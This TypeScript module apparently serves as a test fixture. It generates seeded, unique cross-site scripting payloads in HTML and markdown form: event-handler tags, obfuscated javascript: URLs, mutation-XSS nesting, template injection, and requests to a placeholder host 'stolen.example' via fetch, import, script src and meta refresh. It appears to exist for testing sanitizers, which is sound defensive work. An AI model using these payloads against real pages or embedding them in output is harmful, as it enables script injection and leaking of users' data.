import { seededRandom } from "./seeded-random.ts";

/** Where scripts of these texts would send a request, and what they would set. */
export const HOSTILE_HOST = "stolen.example";
export const HOSTILE_MARK = "__hostile";

const ACTS = [
  `${HOSTILE_MARK}=1`,
  `window.${HOSTILE_MARK}=1`,
  `alert(1)`,
  `fetch('//${HOSTILE_HOST}/')`,
  `import('//${HOSTILE_HOST}/x.js')`,
  `location='//${HOSTILE_HOST}/'`,
  `top['${HOSTILE_MARK}']=1`,
  `eval(atob('X19ob3N0aWxlPTE='))`,
  `Function('${HOSTILE_MARK}=1')()`,
];
const TAGS = [
  "img",
  "svg",
  "video",
  "audio",
  "body",
  "details",
  "input",
  "iframe",
  "math",
  "marquee",
  "a",
  "x",
  "object",
];
const EVENTS = [
  "onerror",
  "onload",
  "onfocus",
  "ontoggle",
  "onmouseover",
  "onbegin",
  "onanimationstart",
  "onpointerenter",
];
const SCHEMES = [
  "javascript:",
  "JaVaScRiPt:",
  "java\tscript:",
  "\u0001javascript:",
  "javascript&colon;",
  "data:text/html,",
  "vbscript:",
  "blob:",
  "&#106;avascript:",
];
const OUTER = [
  `<script>{act}</script>`,
  `<SCRIPT SRC=//${HOSTILE_HOST}/x.js></SCRIPT>`,
  `<script\n>{act}</script >`,
  `<svg><script>{act}</script></svg>`,
  `<{tag} src=x {event}={act}>`,
  `<{tag} src="x" {event}="{act}" autofocus tabindex=1 open>`,
  `<{tag}/src=x/{event}={act}//`,
  `<svg><animate onbegin={act} attributeName=x dur=1s>`,
  `<iframe srcdoc="<script>{act}</script>">`,
  `<iframe src="{scheme}{act}">`,
  `<a href="{scheme}{act}">link</a>`,
  `<form action="{scheme}{act}"><button>Go</button></form>`,
  `<link rel=stylesheet href=//${HOSTILE_HOST}/x.css>`,
  `<style>@import '//${HOSTILE_HOST}/x.css';*{background:url(//${HOSTILE_HOST}/)}</style>`,
  `<base href=//${HOSTILE_HOST}/>`,
  `<meta http-equiv=refresh content="0;url=//${HOSTILE_HOST}/">`,
  `<object data="{scheme}{act}">`,
  `<math><mtext><table><mglyph><style><img src=x {event}={act}>`,
  `<template shadowrootmode=open><img src=x {event}={act}></template>`,
  `[link]({scheme}{act})`,
  `[link](<{scheme}{act}>)`,
  `[link]({scheme}{act} "{event}={act}")`,
  `![picture](//${HOSTILE_HOST}/x.png)`,
  `![x]({scheme}{act})`,
  `[![x](//${HOSTILE_HOST}/x.png)]({scheme}{act})`,
  `<{scheme}{act}>`,
  `[x]: {scheme}{act}\n[x]`,
  `\`\`\`html\n<script>{act}</script>\n\`\`\``,
  `| <img src=x {event}={act}> | [x]({scheme}{act}) |\n|---|---|\n| <script>{act}</script> | b |`,
  `# <img src=x {event}={act}>`,
  `- [ ] <img src=x {event}={act}>`,
  `$$ \\href{{scheme}{act}}{x} $$`,
  `https://${HOSTILE_HOST}/"{event}="{act}`,
  `{{constructor.constructor('{act}')()}}`,
  `\${{act}}`,
  `[1]<img src=x {event}={act}>[1]({scheme}{act})`,
];
const AROUND: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => `"><${"/x>"}${text}`,
  (text) => `'"></textarea></title></script>${text}`,
  (text) => `--><!--${text}-->`,
  (text) => `]]>${text}<![CDATA[`,
  (text) => `**${text}**`,
  (text) => `> ${text}`,
  (text) => `\u0000${text}\u202E`,
  (text) => text.replaceAll("<", "&lt;").replaceAll(">", "&gt;"),
  (text) => text.replaceAll("<", "\\u003c"),
  (text) => encodeURIComponent(text),
  (text) => `refunds ${text} [2]`,
];

/**
 * Texts that would run a script or send a request where a page takes them for markup: the same ones for a seed, no two
 * alike.
 */
export function hostileTexts(seed: number, count: number): string[] {
  const random = seededRandom(seed);
  const pick = <Item>(items: readonly Item[]): Item => items[Math.floor(random() * items.length)]!;
  const texts = new Set<string>();
  while (texts.size < count) {
    const inner = pick(OUTER)
      .replaceAll("{act}", () => pick(ACTS))
      .replaceAll("{tag}", () => pick(TAGS))
      .replaceAll("{event}", () => pick(EVENTS))
      .replaceAll("{scheme}", () => pick(SCHEMES));
    texts.add(pick(AROUND)(inner));
  }
  return [...texts];
}
